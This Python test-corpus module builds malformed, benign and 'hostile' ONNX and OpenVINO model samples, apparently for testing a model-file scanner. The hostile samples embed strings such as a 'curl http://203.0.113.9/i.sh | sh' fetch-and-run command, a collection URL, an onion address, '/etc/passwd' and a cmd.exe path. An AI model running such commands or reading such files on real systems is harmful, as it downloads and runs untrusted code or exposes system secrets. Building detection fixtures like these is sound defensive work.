"""Graphs whose statements about their data do not fit the data, and texts in them that lead elsewhere."""

import struct

from tests.corpus.labelled import benign, hostile, malformed
from tests.corpus.onnx_samples import ADD, attribute, external, graph, model, node, tensor
from tests.corpus.protobuf_writer import Value, message
from tests.corpus.runtime_samples import ir
from tests.corpus.sample import Sample

FAMILY = "graph layout"
FLOAT, UINT8, INT64, STRING, DOUBLE, BFLOAT16, INT4 = 1, 2, 7, 8, 11, 16, 22
PACKED_FLOATS = struct.pack("<4f", 1, 2, 3, 4)


def stated(*fields: tuple[int, Value]) -> bytes:
    """An initialiser called w of these fields."""
    return message(*fields, (8, "w"))


def odd(name: str, weight: bytes, note: str) -> Sample:
    """A graph with one initialiser that does not fit."""
    return malformed("layout-onnx-" + name, FAMILY, {"model.onnx": model(graph(ADD, weights=(weight,)))}, note)


def fits(name: str, weight: bytes, note: str) -> Sample:
    """One that does."""
    return benign("layout-benign-onnx-" + name, FAMILY, {"model.onnx": model(graph(ADD, weights=(weight,)))}, note)


LENGTHS = (
    odd("short", tensor("w", (400,), bytes(16)), "Fewer bytes than the shape asks for: a reader runs past them."),
    odd("long", tensor("w", (2,), bytes(4096)), "More bytes than the shape asks for: room for something else."),
    odd("overflow", tensor("w", (1 << 40, 1 << 40), bytes(16)), "A product beyond 64 bits."),
    odd("negative", tensor("w", (-4,), bytes(16)), "A negative length."),
    odd("none-for-many", tensor("w", (1 << 30,), b""), "No bytes for a thousand million numbers."),
    odd("floats-short", stated((1, 9), (2, FLOAT), (4, PACKED_FLOATS)), "Four numbers for nine."),
    odd("longs-short", stated((1, 9), (2, INT64), (7, bytes(4))), "Four 64-bit numbers for nine."),
    odd("strings-short", stated((1, 3), (2, STRING), (6, b"a")), "One text for three."),
    odd(
        "two-kinds", stated((1, 4), (2, FLOAT), (4, PACKED_FLOATS), (9, bytes(16))), "Bytes twice: which does one take?"
    ),
    malformed(
        "layout-onnx-in-constant",
        FAMILY,
        {
            "model.onnx": model(
                graph(
                    node("Constant", (), "w", attributes=(attribute("value", tensor("v", (99,), bytes(8)), "tensor"),)),
                    ADD,
                )
            )
        },
        "In the attribute of a node.",
    ),
)


def beside(name: str, files: dict[str, bytes | str], note: str) -> Sample:
    """A graph and its data in another file."""
    return malformed("layout-" + name, FAMILY, files, note)


def kept(*pairs: tuple[str, str], shape: tuple[int, ...] = (4,)) -> bytes:
    """A graph whose one weight lies in w.bin."""
    return model(graph(ADD, weights=(external("w", ("location", "w.bin"), *pairs, shape=shape),)))


OUTSIDE = (
    beside(
        "onnx-offset-beyond", {"model.onnx": kept(("offset", "4096"), ("length", "16")), "w.bin": bytes(64)}, "Offset."
    ),
    beside(
        "onnx-length-beyond", {"model.onnx": kept(("offset", "0"), ("length", "999")), "w.bin": bytes(64)}, "Length."
    ),
    beside(
        "onnx-sum-beyond", {"model.onnx": kept(("offset", "60"), ("length", "16")), "w.bin": bytes(64)}, "Their sum."
    ),
    beside(
        "onnx-huge-offset",
        {"model.onnx": kept(("offset", str((1 << 63) - 8)), ("length", "16")), "w.bin": bytes(64)},
        "A sum beyond 63 bits.",
    ),
    beside("onnx-no-length-beyond", {"model.onnx": kept(shape=(400,)), "w.bin": bytes(64)}, "The shape asks for more."),
    beside(
        "onnx-shape-differs",
        {"model.onnx": kept(("offset", "0"), ("length", "16"), shape=(400,)), "w.bin": bytes(4096)},
        "The length does not fit the shape.",
    ),
    beside("openvino-offset-beyond", {"model.xml": ir(offset=4096, size=16), "model.bin": bytes(64)}, "Offset."),
    beside("openvino-size-beyond", {"model.xml": ir(offset=0, size=4096), "model.bin": bytes(64)}, "Size."),
    beside("openvino-sum-beyond", {"model.xml": ir(offset=56, size=16), "model.bin": bytes(64)}, "Their sum."),
    beside(
        "openvino-shape", {"model.xml": ir(offset=0, size=8), "model.bin": bytes(64)}, "Four numbers in eight bytes."
    ),
)


def texts(*words: str) -> bytes:
    """An initialiser of texts."""
    return message((1, len(words)), (2, STRING), *((6, word) for word in words), (8, "labels"))


def said(name: str, weight: bytes, note: str) -> Sample:
    """A graph that keeps texts among its constants."""
    return hostile("layout-onnx-text-" + name, FAMILY, {"model.onnx": model(graph(ADD, weights=(weight,)))}, note)


TEXTS = (
    said("url", texts("cat", "http://203.0.113.9/collect"), "An address."),
    said("onion", texts("https://examplehiddenservice.onion/x"), "A hidden one."),
    said("path", texts("/etc/passwd"), "A file of the machine."),
    said("windows-path", texts("C:\\Windows\\System32\\cmd.exe"), "A program of the machine."),
    said("share", texts("\\\\203.0.113.9\\share\\x"), "A share."),
    said("shell", texts("curl http://203.0.113.9/i.sh | sh"), "A command."),
    said("python", texts("__import__('os').system('echo inert')"), "Python."),
    said("raw-bytes", tensor("w", (20,), b"http://203.0.113.9/x".ljust(20), UINT8), "An address as bytes."),
    hostile(
        "layout-onnx-text-attribute",
        FAMILY,
        {
            "model.onnx": model(
                graph(
                    node("Constant", (), "t", attributes=(attribute("value_string", "http://203.0.113.9/x", "text"),)),
                    ADD,
                )
            )
        },
        "As the attribute of a Constant.",
    ),
)
BENIGN = (
    fits("plain", tensor("w", (4,), bytes(16)), "As many bytes as the shape asks for."),
    fits("scalar", tensor("w", (), bytes(4)), "One number."),
    fits("empty", tensor("w", (0,), b""), "None."),
    fits("floats", stated((1, 4), (2, FLOAT), (4, PACKED_FLOATS)), "Packed numbers."),
    fits("halves", stated((1, 4), (2, BFLOAT16), (9, bytes(8))), "Half the width."),
    fits("nibbles", stated((1, 3), (2, INT4), (9, bytes(2))), "Two to a byte."),
    fits("doubles", stated((1, 2), (2, DOUBLE), (10, bytes(16))), "Packed doubles."),
    fits("longs", stated((1, 3), (2, INT64), (7, b"\x01\x02\x03")), "Packed varints."),
    fits("labels", texts("cat", "dog", "/m/0k4j", "c:and", "12:30", "a/b"), "Classes, some with slashes."),
    benign(
        "layout-benign-external",
        FAMILY,
        {"model.onnx": kept(("offset", "16"), ("length", "16")), "w.bin": bytes(32)},
        "Ends with the file.",
    ),
    benign(
        "layout-benign-external-whole", FAMILY, {"model.onnx": kept(), "w.bin": bytes(16)}, "Without offset and length."
    ),
    benign(
        "layout-benign-external-zero-length",
        FAMILY,
        {"model.onnx": kept(("offset", "0"), ("length", "0")), "w.bin": bytes(16)},
        "Zero stands for all.",
    ),
    benign(
        "layout-benign-openvino",
        FAMILY,
        {"model.xml": ir(offset=16, size=16), "model.bin": bytes(32)},
        "Ends with the file.",
    ),
)
SAMPLES = (*LENGTHS, *OUTSIDE, *TEXTS, *BENIGN)
